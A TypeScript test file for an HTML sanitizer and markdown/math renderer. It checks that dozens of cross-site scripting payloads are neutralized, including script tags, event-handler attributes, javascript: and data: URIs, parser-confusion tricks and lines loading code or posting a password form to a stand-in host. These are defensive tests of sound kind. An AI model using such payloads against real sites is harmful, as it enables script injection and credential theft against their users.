import fc from 'fast-check'
import { expect, it } from 'vitest'
import { isTypeset, renderMarkdown, toDescription } from './markdown.ts'
import { depthMax, safeHtml } from './safe-html.ts'

/** Every `<` of the result must begin one of these. */
const allowed =
  /^<\/?(?:p|br|hr|h[1-6]|div|span|a|img|em|strong|pre|code|table|t[rdh]|thead|tbody|ul|ol|li|b|i)(?: [a-z]+="[^"<>]*")*(?: \/)?>/

const isHarmless = (html: string) =>
  [...html.matchAll(/</g)].every(({ index }) => allowed.test(html.slice(index))) &&
  !/ on[a-z]+="|="\s*(?:javascript:|vbscript:|data:text)/i.test((html.match(/<[^>]*>/g) ?? []).join(''))

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img/src=x/onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<p title="a>b"onmouseover=alert(1)>',
  '<p title=`"><script>alert(1)</script>`>',
  '<<script>alert(1)//<</script>',
  '</div></main></div></body><script>alert(1)</script>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p id="root" name="answers" class="arriving">x</p>',
  '<form action="//evil.example"><input type=password></form>',
  // of the kinds that the library's own tests hold
  '<<img src="javascript:alert(1)"/>img src="javascript:alert(1)"/>',
  '<img src=x onerror=alert(1) ',
  '<img src="javascript:alert(1)" srcset="javascript:alert(1) 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img src="da\tta:text/html,<script>alert(1)</script>">',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="\u0001JavaScript:alert(1)" target=_top ping=//evil.example>x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<p "onmouseover=alert(1) title=x>x</p>',
  '<p title="&quot; onmouseover=&quot;alert(1)">x</p>',
  '<p __proto__=x constructor=x onclick=alert(1)>x</p>',
  '<b <script>alert(1)</script>0',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<select><option><style><img src=x onerror=alert(1)></style></option></select>',
  '<xmp><script>alert(1)</script></xmp>',
  '<xmp>&lt;/xmp&gt;<img src=x onerror=alert(1)></xmp>',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<textarea>&lt;/textarea&gt;<script>alert(1)</script>',
  '<title></title/><img src=x onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p><noscript></p><style></noscript><img src=x onerror=alert(1)></style>',
  '<iframe><iframe></iframe><img src=x onerror=alert(1)>',
  '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values="#;javascript:alert(1)"/></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href=//evil.example>',
  '<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example/x.css"</style>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><video onerror=alert(1) src=x>',
]

it.each(hostile)('SE-01 nothing of %s runs, styles or leads away', async (text) => {
  for (const html of [safeHtml(text), await renderMarkdown(text), await renderMarkdown(`a ${text} b`)]) {
    expect(isHarmless(html), html).toBe(true)
    expect(html).not.toMatch(/ (?:style|id|name)=|class="arriving/)
  }
})

it('PD-01 keeps signs with their formula on one line before any script, as the page does', async () => {
  const lines = async (text: string) =>
    [...(await renderMarkdown(text)).matchAll(/<span class="math-line">(.*?<\/span>.*?)<\/span>/g)].map(([, line]) =>
      line?.replace(/<[^>]*>/g, ''),
    )
  expect(await lines('两数（$1 \\le n$），与 $k$。')).toEqual(['（1≤n），', 'k。'])
  expect(await lines('a ($\\wrong{n}$), b $x$ c & $y$ d')).toEqual(['(\\wrong{n}),'])
})

it('SE-01 whatever is written: tags of the list only, and all that was opened is closed', () => {
  const piece = fc.constantFrom('<', '>', '"', "'", '`', '/', '=', ' ', '\n', '&#60;', '<!--', '-->', '</', 'p', 'img')
  const text = fc.array(fc.oneof(piece, fc.constantFrom(...hostile), fc.string({ maxLength: 6 })), { maxLength: 12 })
  fc.assert(
    fc.property(text, (parts) => {
      const html = safeHtml(parts.join(''))
      expect(html).toSatisfy(isHarmless)
      const open = [...html.matchAll(/<([a-z]\w*)/g)]
        .map(([, name]) => name)
        .filter((name) => !/^(?:br|hr|img)$/.test(name ?? ''))
      expect([...html.matchAll(/<\/([a-z]\w*)/g)].length).toBe(open.length)
    }),
  )
})

it('keeps what authors write', () => {
  expect(safeHtml('<p class="language-cpp">a &lt; b &amp; c</p>')).toBe('<p class="language-cpp">a &lt; b &amp; c</p>')
  expect(safeHtml('<img src="/api/file/view?fileId=1" width=3>')).toBe(
    '<img src="/api/file/view?fileId=1" width="3" loading="lazy" referrerpolicy="no-referrer" />',
  )
  expect(safeHtml('a < b > c')).toBe('a &lt; b &gt; c')
  expect(safeHtml('<b>x')).toBe('<b>x</b>')
})

it('PD-01 shows formulas as MathML, those that our reader does not know by the typesetter, and wrong ones as they are', async () => {
  const [simple, cases] = [
    await renderMarkdown('$1 \\le n$'),
    await renderMarkdown('$\\begin{cases}x&<y>\\end{cases}$'),
  ]
  expect(simple).toContain('<span class="math-inline" data-tex="1 \\le n"><math display="inline">')
  expect(cases).toContain('data-tex="\\begin{cases}x&amp;&lt;y&gt;\\end{cases}"><math><mrow>')
  expect(cases).toMatch(/<mtd [^>]*><mi>x<\/mi><\/mtd>.*<mo>&lt;<\/mo>/)
  expect([isTypeset(simple), isTypeset(cases)]).toEqual([false, true])
  expect(await renderMarkdown('$\\wrong{x}$')).toContain('<span class="math-inline">\\wrong{x}</span>')
})

it.each([
  '\\href{javascript:alert(1)}{x}',
  '\\includegraphics{/x.png}',
  '\\htmlStyle{position:fixed}{x}',
  '\\style{position:fixed}{x}',
  '\\id{root}{x}',
  '\\class{arriving}{x}',
  '\\label{root} x',
  '\\text{<img src=x onerror=alert(1)>}',
  '\\text{\\color{red" onclick="alert(1)}x}',
  '\\color{url(//evil.example)} x',
  `\\begin{matrix}${'</math><script>alert(1)</script>&'.repeat(3)}\\end{matrix}`,
  '\\ce{<img src=x onerror=alert(1)>}',
])('SE-01 nothing of the formula %s runs, links or names', async (tex) => {
  const [, formula = ''] =
    /^<p><span class="math-inline"(?: data-tex="[^"]*")?>(.*)<\/span><\/p>$/s.exec(
      (await renderMarkdown(`$${tex}$`)).trim(),
    ) ?? []
  expect(formula).not.toBe('')
  expect(formula).not.toMatch(/<(?!\/?m[a-z]+[ >])|<[^>]* (?:id|href|src|name|on\w+)=|<[^>]*(?:url\(|position:)/i)
})

it('leaves to the page what takes the typesetter long', async () => {
  const matrix = (cells: number) => `$\\begin{matrix}${'a&'.repeat(cells)}\\end{matrix}$\n\n`
  const text = matrix(4500).repeat(3)
  expect((await renderMarkdown(text)).match(/<math/g)).toHaveLength(2)
})

it('PD-01 makes a text once for all who read it, and anew where its lines break', async () => {
  const text = 'one\ntwo'
  expect(renderMarkdown(text)).toBe(renderMarkdown(text, { breaks: false }))
  expect(await renderMarkdown(text)).not.toBe(await renderMarkdown(text, { breaks: true }))
})

it('describes a text on one line, without its marks', () => {
  expect(toDescription('# Sum\n\nAdd **two** <b>numbers</b> &amp; more.\n\n<script>x()</script>')).toBe(
    'Sum Add two numbers & more.',
  )
  expect(toDescription('字'.repeat(500))).toHaveLength(161)
})

const deepest = (html: string) => {
  let [depth, most] = [0, 0]
  for (const [tag] of html.matchAll(/<\/?(?!(?:br|hr|img)\b)[a-z][^>]*>/g)) {
    depth += tag.startsWith('</') ? -1 : 1
    most = Math.max(most, depth)
  }
  return most
}

it('SE-03 has so few elements open at a time that its work is in proportion to the text', () => {
  const nested = (depth: number) => safeHtml('<div>'.repeat(depth))
  expect(deepest(nested(depthMax))).toBe(depthMax)
  expect(nested(depthMax + 1)).toBe(`<pre>${'&lt;div&gt;'.repeat(depthMax + 1)}</pre>`)
  const pieces = [
    '<div>',
    '<div></p>',
    '<b><p>',
    '<table><tr>',
    '<tr><td>',
    '<a><b>',
    '<svg>',
    '<p><noscript></p>',
    '<iframe>',
  ]
  for (const piece of pieces) expect(deepest(safeHtml(piece.repeat(20_000))), piece).toBeLessThanOrEqual(depthMax)
})
